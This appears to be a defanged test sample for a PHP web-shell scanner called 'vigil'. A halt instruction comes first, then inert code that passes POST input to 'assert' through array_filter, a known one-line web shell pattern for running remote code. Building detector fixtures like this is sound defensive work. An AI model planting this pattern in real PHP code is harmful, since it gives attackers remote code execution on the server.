<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$f = 'assert';
array_filter(array($_POST['p']), $f);
